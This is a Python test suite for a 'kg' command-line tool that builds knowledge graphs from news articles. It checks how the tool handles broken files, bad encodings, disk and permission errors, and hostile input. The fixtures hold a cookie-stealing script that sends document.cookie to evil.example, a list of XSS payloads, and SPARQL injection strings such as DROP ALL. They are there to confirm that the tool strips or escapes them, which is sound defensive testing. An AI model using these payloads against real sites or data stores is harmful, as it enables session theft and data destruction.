"""Hostile and broken input: one clear line, the right exit code, nothing already written changed.

Every case runs the real command (`kg build`, `kg query`) on real files with
the real spaCy model. Cases that fail are run with `--force` into a folder
that already holds a previous build, and check that it is byte for byte as
it was.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import pyoxigraph
import pytest

from kg.cli import main
from kg.query import mention_rows
from kg.rdf import load_graph

ROOT = Path(__file__).resolve().parent.parent
ENGLISH = (
    "Israel rejected a proposal from the United States on Monday, officials said in Jerusalem. "
    "The U.S. had pushed for a ceasefire with Hezbollah for weeks, diplomats told reporters."
)
FRENCH = (
    "Le président de la République a annoncé mardi une série de mesures pour soutenir les agriculteurs, "
    "qui manifestent depuis plusieurs semaines contre la baisse de leurs revenus et la concurrence étrangère."
)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below ``folder`` with its bytes."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture()
def previous(tmp_path, sample_build) -> Path:
    """An output folder holding an earlier build (graph and page)."""
    out = tmp_path / "out"
    out.mkdir()
    for name in ("graph.trig", "graph.html"):
        shutil.copy(sample_build[0] / name, out / name)
    return out


def build(runner, *args: str | Path):
    return runner.invoke(main, ["build", *map(str, args)])


def error_line(result) -> str:
    """The output, which must be exactly one `kg: error:` line."""
    lines = result.output.strip().splitlines()
    assert len(lines) == 1, result.output
    assert lines[0].startswith("kg: error: "), result.output
    assert "Traceback" not in result.output
    return lines[0].removeprefix("kg: error: ")


# --- input files that are refused -------------------------------------------------------------

NOT_TEXT = "give kg plain text, HTML or JSON Lines"
NO_ARTICLE_HTML = (
    "<!DOCTYPE html><html><head><title>Menu</title><script>alert('x')</script><style>p{}</style></head>"
    "<body><nav><a href='/'>Home</a></nav><script>document.write('evil')</script></body></html>"
)

REFUSED = {
    "empty": (b"", "is empty; give kg a file with article text"),
    "whitespace": (b"  \n\t \r\n\n", "is empty; give kg a file with article text"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", f"is a PDF document, not text; {NOT_TEXT}"),
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", f"is a PNG image, not text; {NOT_TEXT}"),
    "zip": (b"PK\x03\x04\x14\x00\x00\x00", f"is a ZIP archive (or an Office document), not text; {NOT_TEXT}"),
    "random": (random.Random(8).randbytes(20_000), f"looks binary (control characters); {NOT_TEXT}"),
    "nul": (b"Israel\x00\x00\x00\x00 said\x00\x00\x00\x00" * 50 + b"\x01\x02", f"looks binary (NUL bytes); {NOT_TEXT}"),
    "only-controls": (b"\x07\x08\x1b " * 3, f"looks binary (control characters); {NOT_TEXT}"),
    "script-only.html": (
        NO_ARTICLE_HTML.encode(),
        "is an HTML page with no article text kg could find (only scripts, navigation or markup); "
        "save the article's text as .txt",
    ),
    "french": (
        FRENCH.encode("utf-8"),
        "is in French (fr), not English; skipped (build it with --language fr and a --model for French, "
        "or --language any)",
    ),
    "deep.json": (b"[" * 100_000 + b"]" * 100_000,
                  "is JSON nested too deeply to read; give a list of flat article objects"),
    "broken.json": (b'{"text": ', "is not valid JSON (Expecting value at line 1, column 10); fix it"),
    "list.json": (b'[{"text": ""}]', None),
    "image.jsonl": (b"\x89PNG\r\n\x1a\n" + b"\n".join(bytes([i]) * 30 for i in range(256)),
                    f"is a PNG image, not JSON Lines; {NOT_TEXT}"),
    "binary.jsonl": (b"\n".join(bytes([i, 0]) * 30 for i in range(256)), f"is binary data, not JSON Lines; {NOT_TEXT}"),
    "metadata-only": (b"12345\n2024-10-10\nb83d3a09c8e4d2f1\n", "holds no article text (only a title, metadata "
                      "or site boilerplate); give kg a file with the article's paragraphs"),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_unreadable_input_is_one_line_and_keeps_the_previous_output(runner, tmp_path, previous, name):
    data, message = REFUSED[name]
    f = tmp_path / (name if "." in name else name + ".txt")
    f.write_bytes(data)
    before = snapshot(previous)
    result = build(runner, f, "-o", previous, "--force")
    assert result.exit_code == 1
    if message is None:  # an element of a JSON list: named by its position
        assert error_line(result) == f"{f}[1]: has no \"text\" (a non-empty string is needed); add the article's text"
    else:
        assert error_line(result) == f"{f}: {message}"
    assert snapshot(previous) == before


def test_twenty_megabyte_article_is_refused_before_it_is_read(runner, tmp_path, previous):
    f = tmp_path / "huge.txt"
    with f.open("wb") as out:
        for _ in range(20):
            out.write((ENGLISH.encode() + b"\n\n") * (1_000_000 // (len(ENGLISH) + 2) + 1))
    before = snapshot(previous)
    result = build(runner, f, "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result) == (
        f"{f}: is {f.stat().st_size / 1e6:.1f} MB, more than kg reads as one article (2,000,000 characters); "
        "split it into articles (for instance one a line in a JSON Lines file) or raise $KG_MAX_ARTICLE_CHARS"
    )
    assert snapshot(previous) == before


def test_a_device_given_as_input_is_read_only_up_to_the_limit(runner, tmp_path, previous, monkeypatch):
    monkeypatch.setenv("KG_MAX_ARTICLE_CHARS", "1000")
    result = build(runner, "/dev/zero", "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result).startswith("/dev/zero: is more than 4,000 bytes, more than kg reads as one article "
                                         "(1,000 characters); split it")


def test_symlink_loop_given_as_input(runner, tmp_path, previous):
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    before = snapshot(previous)
    result = build(runner, loop, "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result) == f"{loop}: is a symbolic link to nothing (broken, or a loop); fix or remove it"
    assert snapshot(previous) == before


def test_folder_of_images_and_archives_only(runner, tmp_path, previous):
    folder = tmp_path / "media"
    folder.mkdir()
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (folder / "photos.tar.gz").write_bytes(b"\x1f\x8b\x08")
    (folder / "scan.pdf").write_bytes(b"%PDF-1.4")
    before = snapshot(previous)
    result = build(runner, folder, "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result) == (f"{folder}: holds no article files (3 other files skipped); "
                                  "give kg .txt, .md, .html, .json or .jsonl files")
    assert snapshot(previous) == before


def test_jsonl_where_every_line_is_broken_reports_each_line(runner, tmp_path, previous):
    f = tmp_path / "broken.jsonl"
    f.write_bytes(b'{"text": "unterminated\n[1, 2]\n{"title": "no text"}\n\xff\xfe{"text": "x"}\n{"text": "\\u0000\\u0007"}\n')
    before = snapshot(previous)
    result = build(runner, f, "-o", previous, "--force")
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == [
        f"kg: error: {f}:1: is not valid JSON (Unterminated string starting at column 10); fix or remove the line",
        f"kg: error: {f}:2: is not a JSON object with a \"text\" field; write one object a line",
        f"kg: error: {f}:3: has no \"text\" (a non-empty string is needed); add the article's text",
        f"kg: error: {f}:4: is not UTF-8; JSON Lines files must be UTF-8, convert it",
        f"kg: error: {f}:5: \"text\" holds only control characters; add the article's text",
        f"kg: error: {f}: no article could be read (see above); nothing was written",
    ]
    assert snapshot(previous) == before


# --- input that is read, oddities and all -----------------------------------------------------

def built(runner, tmp_path, *inputs, extra=()) -> tuple:
    out = tmp_path / "built"
    result = build(runner, *inputs, "-o", out, *extra)
    return result, out


def test_jsonl_with_broken_and_huge_lines_builds_the_rest_and_names_the_lines(runner, tmp_path, monkeypatch):
    monkeypatch.setenv("KG_MAX_ARTICLE_CHARS", "50000")
    f = tmp_path / "news.jsonl"
    lines = [json.dumps({"id": "good-1", "text": ENGLISH}), "{not json",
             json.dumps({"id": "huge", "text": "Israel said no. " * 20_000}),
             json.dumps({"id": "good-2", "title": "T", "text": "France proposed a truce to Germany on Friday."})]
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result, out = built(runner, tmp_path, f)
    assert result.exit_code == 1
    assert f"kg: error: {f}:2: is not valid JSON" in result.output
    assert f"kg: error: {f}:3: is more than" in result.output and "more than kg reads as one article" in result.output
    assert "2 articles" in result.output and "2 inputs failed" in result.output
    ids = {row["article"] for row in mention_rows(load_graph(out / "graph.trig"))}
    assert ids == {"good-1", "good-2"}


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_legacy_and_utf16_encodings_are_decoded(runner, tmp_path, encoding):
    text = "Le président Macron met Angela Merkel in Paris on Monday, officials said. " + ENGLISH
    if encoding == "cp1252":
        text += " “Quoted” — 5 €."
    f = tmp_path / "article.txt"
    f.write_bytes(text.encode(encoding))
    result, out = built(runner, tmp_path, f)
    assert result.exit_code == 0, result.output
    rows = mention_rows(load_graph(out / "graph.trig"))
    assert {"Macron", "Angela Merkel", "Paris"} <= {r["text"] for r in rows}
    for r in rows:
        assert text[r["start"]:r["end"]] == r["text"]


def test_mixed_line_endings_and_nul_bytes_keep_offsets_into_the_text(runner, tmp_path):
    raw = ("Israel rejected the proposal on Monday.\r\nThe United States\x00 said so.\rFrance agreed with Britain."
           "\n\n\x07Germany\x0b objected to the plan.\r\n")
    f = tmp_path / "mixed.txt"
    f.write_bytes(raw.encode("utf-8"))
    result, out = built(runner, tmp_path, f)
    assert result.exit_code == 0, result.output
    rows = mention_rows(load_graph(out / "graph.trig"))
    assert {"Israel", "France", "Britain", "Germany"} <= {r["text"] for r in rows}
    for r in rows:  # control characters became spaces: every offset still points into the text as given
        assert raw[r["start"]:r["end"]].replace("\x00", " ") == r["text"]
    assert "\\u0000" not in (out / "graph.trig").read_text(encoding="utf-8")


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Israel rejects US plan</title>
<script>window.location='https://evil.example/steal?c='+document.cookie</script>
<style>.ad{display:block}</style></head>
<body><nav><ul><li><a href="/">Home</a></li><li><a href="/world">World Service Menu</a></li></ul></nav>
<div class="ad">Buy cheap watches now</div>
<article><h1>Israel rejects US plan</h1>
<p>Israel rejected a proposal from the United States on Monday, officials said in Jerusalem.</p>
<script>document.write('<img src=x onerror=alert(1)>')</script>
<p>The U.S. had pushed for a ceasefire with Hezbollah for weeks, diplomats told reporters in Washington.</p>
</article>
<footer>Copyright Example News. Cookie settings. Privacy policy.</footer></body></html>
"""


@pytest.mark.parametrize("name", ["page.html", "page.txt"])
def test_html_pages_give_only_the_article_text(runner, tmp_path, name):
    f = tmp_path / name
    f.write_text(HOSTILE_HTML, encoding="utf-8")
    result, out = built(runner, tmp_path, f)
    assert result.exit_code == 0, result.output
    graph = (out / "graph.trig").read_text(encoding="utf-8")
    for junk in ("evil.example", "document.cookie", "onerror", "cheap watches", "World Service Menu", "Cookie settings"):
        assert junk not in graph
    ds = load_graph(out / "graph.trig")
    rows = mention_rows(ds)
    assert {"Israel", "the United States", "Jerusalem", "Hezbollah"} & {r["text"] for r in rows}
    from kg.ingest import read_text_file
    article = read_text_file(f)
    assert article.title == "Israel rejects US plan"
    for r in rows:  # offsets count characters of the extracted text
        assert article.text[r["start"]:r["end"]] == r["text"]


def test_html_in_a_jsonl_text_field_is_read_as_a_page(runner, tmp_path):
    f = tmp_path / "pages.jsonl"
    f.write_text(json.dumps({"id": "p1", "text": HOSTILE_HTML}) + "\n", encoding="utf-8")
    result, out = built(runner, tmp_path, f)
    assert result.exit_code == 0, result.output
    assert "document.cookie" not in (out / "graph.trig").read_text(encoding="utf-8")


def test_other_languages_are_skipped_with_a_warning_or_built_on_request(runner, tmp_path):
    (tmp_path / "in").mkdir()
    en, fr = tmp_path / "in" / "en.txt", tmp_path / "in" / "fr.txt"
    en.write_text(ENGLISH, encoding="utf-8")
    fr.write_text(FRENCH, encoding="utf-8")
    result, out = built(runner, tmp_path, tmp_path / "in")
    assert result.exit_code == 0, result.output  # skipping on request is not a failure
    assert (f"kg: warning: {fr}: is in French (fr), not English; skipped (build it with --language fr and a "
            "--model for French, or --language any)") in result.output
    assert "1 article in another language skipped" in result.output
    ids = {r["article"] for r in mention_rows(load_graph(out / "graph.trig"))}
    assert ids == {"en"}
    for choice in ("any", "en,fr"):
        result = build(runner, tmp_path / "in", "-o", tmp_path / choice.replace(",", "-"), "--language", choice)
        assert result.exit_code == 0, result.output
        assert "warning: " + str(fr) not in result.output and "2 articles" in result.output


def test_bad_language_code_is_a_usage_error(runner, tmp_path):
    f = tmp_path / "a.txt"
    f.write_text(ENGLISH, encoding="utf-8")
    result = build(runner, f, "-o", tmp_path / "out", "--language", "english!")
    assert result.exit_code == 2 and "is not a language code" in result.output
    assert not (tmp_path / "out").exists()


def test_folder_with_symlink_loops_non_article_files_and_a_broken_link(runner, tmp_path):
    folder = tmp_path / "news"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.txt").write_text(ENGLISH, encoding="utf-8")
    (folder / "sub" / "b.md").write_text("France proposed a truce to Germany on Friday, officials said.", encoding="utf-8")
    (folder / "sub" / "up").symlink_to(folder)  # a loop through a folder link
    (folder / "self.txt").symlink_to(folder / "self.txt")  # a loop through a file link
    (folder / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0")
    (folder / "bundle.zip").write_bytes(b"PK\x03\x04")
    os.mkfifo(folder / "pipe.txt")  # never opened: reading it would block
    result, out = built(runner, tmp_path, folder)
    assert result.exit_code == 1  # the looping link is an input that failed
    assert (f"kg: error: {folder / 'self.txt'}: is a symbolic link to nothing (broken, or a loop); fix or remove it"
            in result.output)
    assert "2 articles" in result.output and "3 non-article files skipped" in result.output
    ids = {r["article"] for r in mention_rows(load_graph(out / "graph.trig"))}
    assert ids == {"a", "b"}


def test_file_names_that_are_not_utf8(runner, tmp_path):
    folder = tmp_path / "names"
    folder.mkdir()
    name = os.fsdecode(b"caf\xe9 \xff.txt")
    (folder / name).write_text(ENGLISH, encoding="utf-8")
    result, out = built(runner, tmp_path, folder)
    assert result.exit_code == 0, result.output
    store = pyoxigraph.Store()
    store.load((out / "graph.trig").read_bytes(), format=pyoxigraph.RdfFormat.TRIG)
    assert len(store) > 0


def test_file_names_with_line_breaks_stay_one_line(runner, tmp_path, previous):
    f = tmp_path / "bad\nname\x1b[31m.txt"
    f.write_bytes(b"")
    before = snapshot(previous)
    result = build(runner, f, "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result) == f"{tmp_path}/bad\\nname\\x1b[31m.txt: is empty; give kg a file with article text"
    assert snapshot(previous) == before


# --- writes ---------------------------------------------------------------------------------

def test_existing_output_is_kept_without_force_even_if_only_the_page_exists(runner, tmp_path):
    f = tmp_path / "a.txt"
    f.write_text(ENGLISH, encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "graph.html").write_text("my page")
    result = build(runner, f, "-o", out)
    assert result.exit_code == 1
    assert error_line(result) == f"{out / 'graph.html'}: already exists; use --force to overwrite it (or -o to write elsewhere)"
    assert snapshot(out) == {"graph.html": b"my page"}


def _is_page_temp(fd: int) -> bool:
    """True when ``fd`` is open on the temporary file of the page (``.graph.html.*.tmp``)."""
    return os.path.basename(os.readlink(f"/proc/self/fd/{fd}")).startswith(".graph.html.")


@pytest.mark.parametrize("failing", ["fsync", "write"])
def test_disk_full_keeps_both_previous_outputs(runner, tmp_path, previous, monkeypatch, failing):
    """The graph's temporary file is written, the page's hits a full disk: neither output is replaced."""
    import kg.rdf.io

    f = tmp_path / "a.txt"
    f.write_text(ENGLISH, encoding="utf-8")
    before = snapshot(previous)
    full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    if failing == "fsync":
        real_fsync = os.fsync

        def fsync(fd):
            if _is_page_temp(fd):
                raise full
            return real_fsync(fd)

        monkeypatch.setattr(kg.rdf.io.os, "fsync", fsync)
    else:
        real_fdopen = os.fdopen

        def fdopen(fd, *args, **kwargs):
            f = real_fdopen(fd, *args, **kwargs)
            return _FullDisk(f) if _is_page_temp(fd) else f

        monkeypatch.setattr(kg.rdf.io.os, "fdopen", fdopen)
    result = build(runner, f, "-o", previous, "--force")
    assert result.exit_code == 1
    assert error_line(result) == (f"{previous / 'graph.html'}: could not be written: the disk is full; free some "
                                  "space or write elsewhere with -o; nothing was changed there")
    assert snapshot(previous) == before  # neither file replaced, no temporary file left


class _FullDisk:
    """A file on a full disk: every write fails with ENOSPC."""

    def __init__(self, f):
        self.f = f

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.f.close()

    def write(self, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __getattr__(self, name):
        return getattr(self.f, name)


def _without_root_powers() -> None:
    """In a child process: drop the capabilities that let root write into a read-only folder."""
    if os.geteuid() == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        for cap in (1, 2, 3):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER
            if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def test_permission_denied_on_a_read_only_folder_is_one_line(tmp_path, previous):
    f = tmp_path / "a.txt"
    f.write_text(ENGLISH, encoding="utf-8")
    before = snapshot(previous)
    previous.chmod(0o555)
    try:
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        result = subprocess.run([sys.executable, "-m", "kg", "build", str(f), "-o", str(previous), "--force"],
                                capture_output=True, text=True, env=env, preexec_fn=_without_root_powers, timeout=300)
    finally:
        previous.chmod(0o755)
    assert result.returncode == 1, result.stderr
    assert result.stderr.strip() == (f"kg: error: {previous / 'graph.trig'}: cannot write in this folder: permission "
                                     "denied; make the folder writable or write elsewhere with -o; nothing was changed there")
    assert snapshot(previous) == before


def test_unreadable_input_is_permission_denied(tmp_path, previous):
    f = tmp_path / "secret.txt"
    f.write_text(ENGLISH, encoding="utf-8")
    f.chmod(0o000)
    before = snapshot(previous)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-m", "kg", "build", str(f), "-o", str(previous), "--force"],
                            capture_output=True, text=True, env=env, preexec_fn=_without_root_powers, timeout=300)
    assert result.returncode == 1, result.stderr
    assert result.stderr.strip() == (f"kg: error: {f}: permission denied; make it readable or run kg as a user "
                                     "who can read it")
    assert snapshot(previous) == before


# --- queries --------------------------------------------------------------------------------

@pytest.fixture()
def graph_copy(tmp_path, sample_build) -> Path:
    path = tmp_path / "graph.trig"
    shutil.copy(sample_build[0] / "graph.trig", path)
    return path


def query(runner, graph: Path, *args: str):
    return runner.invoke(main, ["query", str(graph), *args])


@pytest.mark.parametrize("text, where", [
    ("SELECT ?s WHERE {\n  ?s ?p \n}\n", "line 2, column 3"),
    ("SELECT ?s WHERE { ?s ?p ?o \n", "line 2, column 1"),
    ("# a comment\nSELECT ?s WHERE { ?s ?p ?o } LIMIT x\n", "line 2, column"),
])
def test_syntax_errors_name_line_and_column(runner, tmp_path, graph_copy, text, where):
    q = tmp_path / "bad.rq"
    q.write_text(text, encoding="utf-8")
    before = graph_copy.read_bytes()
    result = query(runner, graph_copy, str(q))
    assert result.exit_code == 2
    line = error_line(result)
    assert line.startswith(f"{q}: SPARQL syntax error at {where}")
    assert line.endswith("; fix the query (kg's prefixes are declared for you)")
    assert graph_copy.read_bytes() == before


def test_undeclared_prefix_and_empty_query(runner, tmp_path, graph_copy):
    q = tmp_path / "pfx.rq"
    q.write_text("SELECT * WHERE { ?s foo:bar ?o }", encoding="utf-8")
    result = query(runner, graph_copy, str(q))
    assert result.exit_code == 2
    assert error_line(result).startswith(f"{q}: uses the undeclared prefix 'foo:'; declare it with PREFIX foo:")
    q.write_text("# nothing here\n\n", encoding="utf-8")
    result = query(runner, graph_copy, str(q))
    assert result.exit_code == 2
    assert error_line(result) == f"{q}: is empty; write a SELECT, CONSTRUCT, ASK or DESCRIBE query"


INJECTIONS = ["} ; DROP ALL ; {", 'Israel" } ; DROP ALL ; { "', "Israel' } DELETE WHERE { ?s ?p ?o } #",
              '"""\n} INSERT DATA { <a:b> <a:c> <a:d> } #', "<https://kg.example.org/x> } UNION { ?s ?p ?o",
              "\\u0022) || true || (\\u0022", "?entity", "$entity", "\x00"]


def test_parameter_values_cannot_change_the_query(runner, graph_copy):
    before = graph_copy.read_bytes()
    for value in INJECTIONS:
        result = query(runner, graph_copy, "who-did-what", "--param", f"entity={value}", "--format", "json")
        assert result.exit_code == 0, (value, result.output)
        assert json.loads(result.output) == [], value
    for value in INJECTIONS[:3]:
        result = query(runner, graph_copy, "entity", "--param", f"entity={value}", "--format", "json")
        assert result.exit_code == 0, (value, result.output)
        assert json.loads(result.output) == [], value
    assert graph_copy.read_bytes() == before
    honest = query(runner, graph_copy, "who-did-what", "--param", "entity=Israel", "--format", "json")
    assert json.loads(honest.output)


def test_runaway_query_is_stopped_by_timeout(runner, tmp_path, graph_copy):
    q = tmp_path / "runaway.rq"
    q.write_text("SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }\n", encoding="utf-8")
    before = graph_copy.read_bytes()
    result = query(runner, graph_copy, str(q), "--timeout", "0.5")
    assert result.exit_code == 3
    assert error_line(result) == (f"{q}: still running after 0.5 s, stopped (--timeout 0.5); narrow it (a LIMIT, "
                                  "more specific patterns) or allow longer with --timeout")
    assert graph_copy.read_bytes() == before
    # the timer is gone: a quick query afterwards runs to the end
    result = query(runner, graph_copy, "predicates", "--timeout", "30", "--format", "json")
    assert result.exit_code == 0 and json.loads(result.output)


FINALISER_TIMEOUT = """
import time
import kg.query

class Finalised:
    def __del__(self):
        time.sleep(0.3)  # the timer fires in here

try:
    with kg.query.time_limit(0.1):
        Finalised()  # dropped at once: its finaliser runs now
        while True:
            time.sleep(0.05)
except kg.query.QueryTimeout:
    print("stopped")
"""


def test_a_timeout_landing_in_a_finaliser_prints_nothing_and_still_stops_the_query():
    # the timer can fire while Python runs a finaliser, which drops the exception there and
    # prints "Exception ignored in ..." on stderr; it is raised again a second later instead
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    r = subprocess.run([sys.executable, "-c", FINALISER_TIMEOUT], capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0 and r.stdout.strip() == "stopped", r.stderr
    assert r.stderr == ""


def test_timeout_must_be_positive(runner, graph_copy):
    result = query(runner, graph_copy, "predicates", "--timeout", "0")
    assert result.exit_code == 2 and "--timeout" in result.output


# --- the page ---------------------------------------------------------------------------------

XSS = ['<img src=x onerror=alert(1)>', '<script>alert(2)</script>', '"><svg onload=alert(3)>',
       "</script><script>alert(4)</script>", "javascript:alert(5)", "{{constructor.constructor('alert(6)')()}}"]


@pytest.mark.browser
def test_built_page_shows_hostile_titles_names_and_sentences_as_text(runner, tmp_path, chromium):
    """A real build of articles carrying script payloads: the page runs none of them."""
    from playwright.sync_api import sync_playwright
    from test_page import CHROMIUM_ARGS, open_page

    f = tmp_path / "xss.jsonl"
    records = [
        {"id": XSS[3], "title": XSS[0],
         "text": f"Antony Blinken {XSS[1]} met Benjamin Netanyahu in Jerusalem on Monday. "
                 f"Israel rejected the proposal {XSS[2]} from the United States, officials said."},
        {"id": "names", "title": XSS[5],
         "text": f"The <b>Hezbollah</b> group {XSS[4]} attacked Haifa. Mr. O'Brien \"{XSS[0]}\" praised France."},
    ]
    f.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    out = tmp_path / "out"
    result = build(runner, f, "-o", out)
    assert result.exit_code == 0, result.output
    html = (out / "graph.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html  # only as escaped JSON
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            page, errors, outside = open_page(browser, out / "graph.html")
            assert page.evaluate("window.kgEdges.length") > 0
            tips = " ".join(page.evaluate("window.kgEdges.get().map(e => e.title.textContent)"))
            assert XSS[0] in tips  # the article title, shown as text
            assert XSS[1] in tips or XSS[2] in tips  # a sentence, shown as text
            assert page.evaluate("document.querySelectorAll('img, svg, iframe, object, embed').length") == 0
            assert page.evaluate("document.querySelectorAll('script:not([src])').length") == 2  # the page's own
            assert errors == [] and outside == []
        finally:
            browser.close()
